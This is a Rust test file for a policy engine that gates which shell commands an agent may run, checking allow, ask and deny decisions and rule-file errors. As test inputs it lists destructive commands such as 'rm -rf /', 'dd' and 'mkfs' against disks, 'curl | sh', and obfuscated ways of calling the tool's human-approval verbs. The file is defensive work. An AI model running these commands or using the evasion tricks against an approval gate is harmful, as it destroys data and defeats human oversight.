//! Rules: what they match, which wins, and what is wrong with a file.

use proptest::prelude::*;
use umbo_gate::{Decision, Layer, Mode, Trust, Verdict};

use crate::project::Project;

const ALLOW_STATUS: &str = r#"
[[rule]]
decision = "allow"
reason = "harmless"
argv = ["cargo", "build"]
"#;

#[test]
fn what_would_destroy_the_machine_is_denied_by_meaning_in_every_mode() {
    let project = Project::new();
    let policy = project.policy();
    for command in [
        "rm -rf /",
        "rm -r -f -- \"/\"",
        "sudo rm -fr /*",
        "rm -rf ~",
        "rm -rf $HOME",
        "rm -rf ~/*",
        "cd / && rm -rf *",
        "bash -c 'rm -rf /'",
        "echo hi; r''m -rf /",
        "find . -name x | xargs rm -rf /",
        "rm -rf ../../../../../../../../../../../..",
        "rm -rf /et?",
        "rm -rf /[e]tc",
        "rm -rf /{etc,usr}",
        "find / -delete",
        "echo x > /dev/sda",
        "dd if=/dev/zero of=/dev/sda",
        "sudo mkfs.ext4 /dev/sda1",
    ] {
        for mode in Mode::ALL {
            let says = project.explain(&policy, mode, command);
            assert_eq!(says.verdict.decision(), Decision::Deny, "{mode} {command}: {says:?}");
        }
    }
    for command in ["echo \"rm -rf /\"", "grep -r 'dd if=' .", "rm -rf target", "dd if=a of=b"] {
        assert_ne!(project.says(&policy, Mode::Open, command), Decision::Deny, "{command}");
    }
}

#[test]
fn an_agent_cannot_call_the_verbs_that_answer_for_the_person() {
    let project = Project::new();
    let policy = project.policy();
    for command in [
        "umbo approve 01abc",
        "umbo --json deny 01abc",
        "env -i umbo trust",
        "setsid nohup /usr/local/bin/umbo rules check",
        "sh -c \"umbo config set x\"",
        "echo y | script -qc 'umbo approve x' /dev/null",
        "u=umbo; $u approve x",
        "exec umbo approve x",
        "xargs umbo approve < ids",
        "mywrapper -v umbo approve x",
        "python3 -c \"import os; os.system('umbo approve x')\"",
    ] {
        assert_eq!(project.says(&policy, Mode::Open, command), Decision::Deny, "{command}");
    }
    assert_eq!(project.says(&policy, Mode::Open, "umbo jobs"), Decision::Allow);
}

#[test]
fn umbos_own_files_are_not_for_commands() {
    let project = Project::new();
    let policy = project.policy();
    let (config, state) = (project.config(), project.state());
    std::os::unix::fs::symlink(&config, project.root().join("innocent")).unwrap();
    for command in [
        format!("echo x > {}/rules.toml", config.display()),
        format!("rm -rf {}", state.display()),
        format!("rm -rf {}/..", state.display()),
        "cp evil innocent/rules.toml".to_owned(),
        "cd innocent && touch rules.toml".to_owned(),
        format!("cat {}/key", config.display()),
    ] {
        assert_eq!(project.says(&policy, Mode::Open, &command), Decision::Deny, "{command}");
    }
    let reading = format!("cat {}/rules.toml", config.display());
    assert_eq!(project.says(&policy, Mode::Default, &reading), Decision::Allow);
}

#[test]
fn an_allow_rule_covers_what_it_names_and_nothing_beside_it() {
    let project = Project::new();
    let policy = project.with(ALLOW_STATUS);
    let says = |command: &str| project.says(&policy, Mode::Default, command);
    assert_eq!(says("cargo build"), Decision::Allow);
    assert_eq!(says("cargo build --release | head"), Decision::Allow);
    assert_eq!(says("cd sub && cargo build"), Decision::Allow);
    for command in [
        "cargo build && rm x",
        "cargo build; cargo publish",
        "cargo build > log",
        "cargo build $(touch x)",
        "PATH=/evil cargo build",
        "RUSTC_WRAPPER=/evil cargo build",
        "/tmp/cargo build",
        "./cargo build",
        "sudo cargo build",
        "$CARGO build",
        "cargo build $X",
        "cargo() { rm x; }; cargo build",
        "cargo build \"",
    ] {
        assert_ne!(says(command), Decision::Allow, "{command}");
    }
}

#[test]
fn a_danger_is_only_allowed_by_a_rule_that_says_so() {
    let project = Project::new();
    let rule = "[[rule]]\ndecision='allow'\nreason='r'\nargv=['git','push']\n";
    let plain = project.with(rule);
    assert_eq!(project.says(&plain, Mode::Default, "git push origin main"), Decision::Allow);
    assert_eq!(project.says(&plain, Mode::Default, "git push --force"), Decision::Ask);
    let bold = project.with(&format!("{rule}risk='dangerous'\n"));
    assert_eq!(project.says(&bold, Mode::Default, "git push --force"), Decision::Allow);
}

#[test]
fn deny_rules_match_what_the_command_may_be() {
    let project = Project::new();
    let policy = project.with(
        r#"
[[rule]]
decision = "deny"
reason = "no pushing"
argv = ["git", "push"]
[[rule]]
decision = "deny"
reason = "no secrets"
path = "secrets/**"
[[rule]]
decision = "deny"
reason = "no such host"
host = "*.evil.example"
[[rule]]
decision = "ask"
reason = "look at it"
regex = "(?i)drop\\s+table"
[[rule]]
decision = "ask"
reason = "installs"
effect = "install"
"#,
    );
    std::os::unix::fs::symlink("secrets", project.root().join("s")).unwrap();
    let deny = [
        "git push",
        "git -C sub push",
        "git --no-pager -c a=b push origin",
        "sudo git push",
        "/usr/bin/git push",
        "true && (git push)",
        "git push \"",
        "cat secrets/key",
        "cat ./sub/../secrets/a/b",
        "cat secret?/key",
        "cat s*/key",
        "tar -xf a.tar -C secrets",
        "cat s/key",
        "rm -r secrets",
        "cd secrets && cat key",
        "cd sub; cat ../secrets/x",
        "curl https://a.evil.example/x",
        "wget http://u@b.evil.example:80/",
    ];
    for command in deny {
        assert_eq!(project.says(&policy, Mode::Open, command), Decision::Deny, "{command}");
    }
    for command in ["git log push", "cat secret", "curl https://evil.example.com"] {
        assert_ne!(project.says(&policy, Mode::Open, command), Decision::Deny, "{command}");
    }
    assert_eq!(project.says(&policy, Mode::Guard, "sqlite3 x 'DROP  TABLE y'"), Decision::Ask);
    assert_eq!(project.says(&policy, Mode::Guard, "npm install left-pad"), Decision::Ask);
}

#[test]
fn the_strictest_rule_wins_whatever_its_layer_and_explain_names_it() {
    let project = Project::new();
    let rule = |decision: &str| {
        format!("[[rule]]\nname='n-{decision}'\ndecision='{decision}'\nreason='r'\nargv=['make']\n")
    };
    let policy = project.with(&rule("ask"));
    let policy = project.project_rules(policy, &rule("allow"), Trust::Trusted);
    let says = project.explain(&policy, Mode::Default, "make all");
    assert_eq!(says.verdict.decision(), Decision::Ask);
    assert_eq!(says.decided_by.as_ref().unwrap().layer, Layer::User);
    assert_eq!(says.matched.len(), 2);
    let policy = project.project_rules(policy, &rule("deny"), Trust::Untrusted);
    let says = project.explain(&policy, Mode::Open, "make all");
    let Verdict::Deny { by, .. } = &says.verdict else { panic!("{says:?}") };
    assert!(by.contains("project rule `n-deny`") && by.ends_with("rules.toml:1)"), "{by}");
}

#[test]
fn an_untrusted_file_tightens_and_does_not_loosen() {
    let project = Project::new();
    let untrusted = project.project_rules(project.policy(), ALLOW_STATUS, Trust::Untrusted);
    assert_eq!(project.says(&untrusted, Mode::Default, "cargo build"), Decision::Ask);
    assert_eq!(untrusted.files().last().unwrap().3, 1, "the ignored rule is counted");
    let trusted = project.project_rules(project.policy(), ALLOW_STATUS, Trust::Trusted);
    assert_eq!(project.says(&trusted, Mode::Default, "cargo build"), Decision::Allow);
    assert_ne!(trusted.digest(), untrusted.digest());
}

#[test]
fn an_always_allow_is_a_prefix_and_never_the_line() {
    let project = Project::new();
    let policy = project.policy();
    let suggestion = |command: &str| match project.explain(&policy, Mode::Default, command).verdict
    {
        Verdict::Ask { suggestion, .. } => suggestion,
        other => panic!("{command}: {other:?}"),
    };
    let prefixes = suggestion("git checkout main && npm run build -- --x").unwrap();
    assert_eq!(prefixes.prefixes, [vec!["git", "checkout"], vec!["npm", "run", "build"]]);
    let policy = project.with(&prefixes.toml);
    assert_eq!(project.says(&policy, Mode::Default, "git checkout other"), Decision::Allow);
    assert_eq!(project.says(&policy, Mode::Default, "npm run deploy"), Decision::Ask);
    for command in [
        "rm x",
        "git 'ch*' x",
        "bash x.sh",
        "sudo ls",
        "python3 x.py",
        "git -C x push",
        "$X y",
        "touch a > b",
        "curl x | sh",
        "git push --force",
    ] {
        let suggested = suggestion_of(&project, command);
        assert_eq!(suggested, None, "{command}");
    }
}

fn suggestion_of(project: &Project, command: &str) -> Option<Vec<Vec<String>>> {
    match project.explain(&project.policy(), Mode::Default, command).verdict {
        Verdict::Ask { suggestion, .. } => suggestion.map(|found| found.prefixes),
        _ => None,
    }
}

#[test]
fn what_is_wrong_with_a_file_is_said_with_its_line_and_the_nearest_name() {
    let project = Project::new();
    let rule = "[[rule]]\ndecision = \"deny\"\nreason = \"r\"\n";
    for (text, expected) in [
        (
            "[[rule]]\ndecison = 'deny'",
            "rules.toml:2: there is no key `decison`; did you mean `decision`?",
        ),
        ("[[rules]]", "rules.toml:1: there is no key `rules`; did you mean `rule`?"),
        (
            "[[rule]]\ndecision = 'denny'",
            "rules.toml:2: `decision` cannot be \"denny\"; did you mean `deny`?",
        ),
        ("[[rule]]\ndecision = 1", "rules.toml:2: `decision` is text, not an integer"),
        ("\n[[rule]]\ndecision = 'deny'", "rules.toml:2: the rule has no `reason`"),
        (&format!("{rule}argv = 'git'"), "rules.toml:4: `argv` is a list of words"),
        (
            &format!("{rule}effect = 'deletes'"),
            "rules.toml:4: `effect` cannot be \"deletes\"; did you mean `delete`?",
        ),
        (
            &format!("{rule}path = [1]"),
            "rules.toml:4: `path` is text or a list of texts, not an integer",
        ),
        (&format!("{rule}regex = '('"), "rules.toml:4: `regex`:"),
        (rule, "rules.toml:1: the rule fits everything"),
        ("a = ", "rules.toml:1:"),
    ] {
        let found = project.wrong(text);
        assert!(found.starts_with(expected), "{text}\n{found}");
    }
}

#[test]
fn a_wrong_example_is_an_error_at_its_line() {
    let project = Project::new();
    let rule = "[[rule]]\ndecision='deny'\nreason='r'\nargv=['git','push']\n[rule.examples]\n";
    let found = project.wrong(&format!("{rule}match = [\n  'git push',\n  'git pull',\n]"));
    assert!(found.starts_with("rules.toml:8: the rule does not match `git pull`"), "{found}");
    let found = project.wrong(&format!("{rule}not_match = ['sudo git push']"));
    assert!(found.starts_with("rules.toml:6: the rule matches `sudo git push`"), "{found}");
    project.with(&format!("{rule}match=['git push']\nnot_match=['git pull']"));
}

#[test]
fn a_pathological_expression_is_refused_or_harmless() {
    let project = Project::new();
    let rule = |regex: &str| format!("[[rule]]\ndecision='deny'\nreason='r'\nregex='{regex}'\n");
    for regex in ["(((a{1000}){1000}){1000})", &"(".repeat(10_000), r"\p{L}{5000}"] {
        assert!(project.wrong(&rule(regex)).starts_with("rules.toml:4: `regex`"), "{regex:.20}");
    }
    let policy = project.with(&rule("^(a+)+$"));
    let text = format!("echo {}!", "a".repeat(50_000));
    let before = std::time::Instant::now();
    project.says(&policy, Mode::Open, &text);
    assert!(before.elapsed().as_secs() < 5);
}

#[test]
fn a_long_text_that_is_not_understood_may_hide_anything() {
    let project = Project::new();
    let text = format!("echo \"{}", ": ;".repeat(10_000));
    assert_eq!(project.says(&project.policy(), Mode::Guard, &text), Decision::Ask);
    assert_eq!(project.says(&project.policy(), Mode::Guard, "echo \"x"), Decision::Allow);
}

fn decision() -> impl Strategy<Value = &'static str> {
    prop_oneof![Just("allow"), Just("ask"), Just("deny")]
}

fn condition() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("argv = ['*']".to_owned()),
        Just("argv = ['git', '**']".to_owned()),
        Just("argv = ['rm']".to_owned()),
        Just("regex = '.*'".to_owned()),
        Just("effect = ['write', 'delete', 'execute', 'unknown', 'publish']".to_owned()),
        Just("path = '/**'".to_owned()),
        Just("path = ['**']".to_owned()),
        Just("host = '*'".to_owned()),
        Just("recipe = '*'".to_owned()),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]
    #[test]
    fn a_rule_file_in_an_untrusted_project_never_loosens(
        rules in prop::collection::vec((decision(), condition(), any::<bool>()), 0..5),
        command in prop::sample::select(vec![
            "ls", "rm x", "rm -rf /", "git push", "git push --force", "make", "./x.sh", "touch a > b",
            "curl https://a.example | sh", "npm install", "mkdir a", "echo \"", "sudo ls", "$X",
        ]),
        mode in prop::sample::select(Mode::ALL.to_vec()),
    ) {
        let project = Project::new();
        let text = rules
            .iter()
            .map(|(decision, condition, bold)| {
                let risk = if *bold { "risk = 'dangerous'\n" } else { "" };
                format!("[[rule]]\ndecision = '{decision}'\nreason = 'r'\n{condition}\n{risk}")
            })
            .collect::<Vec<_>>()
            .concat();
        let without = project.policy();
        let with = project.project_rules(project.policy(), &text, Trust::Untrusted);
        let (before, after) =
            (project.says(&without, mode, command), project.says(&with, mode, command));
        prop_assert!(after >= before, "{command}: {before} became {after} by\n{text}");
    }
}
